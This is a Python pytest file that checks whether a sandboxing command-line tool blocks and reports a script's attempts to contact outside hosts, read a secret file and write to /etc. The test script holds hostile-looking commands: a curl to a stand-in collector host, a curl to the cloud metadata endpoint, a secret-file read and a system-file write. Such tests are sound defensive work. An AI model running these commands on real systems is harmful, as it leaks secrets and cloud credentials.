"""What a program tries and is denied is told, where it can be observed: connections to other hosts, its own errors."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from cli_runs import run

TRIES = """#!/bin/sh
curl -s -m 5 https://collector.example/secrets
curl -s -m 5 http://169.254.169.254/latest/meta-data/
cat {secret}
touch /etc/planted
exit 0
"""


@pytest.mark.engine
def test_what_is_tried_and_denied_is_told(tmp_path: Path) -> None:
    folder = tmp_path / "work"
    folder.mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text("hush", encoding="utf-8")
    (folder / "try.sh").write_text(TRIES.format(secret=secret), encoding="utf-8")
    done = run(
        tmp_path,
        *("rehearse", "command", "--target", "empty", "--dir", str(folder), "--out", str(tmp_path / "out")),
        *("--quiet", "--", "sh", "try.sh"),
    )
    assert done.returncode == 2, done.stderr
    report = json.loads((tmp_path / "out" / "report.json").read_text(encoding="utf-8"))
    told = [gap["reason"] for gap in report["gaps"] if gap["blocking"]]
    for host in ("collector.example:443", "169.254.169.254"):
        assert any("tried to leave the clone" in reason and host in reason for reason in told), told
    [step] = report["steps"]
    assert str(secret) in step["stderr"]
    assert "hush" not in step["stdout"]
    assert "/etc/planted" in step["stderr"]
    assert not Path("/etc/planted").exists()
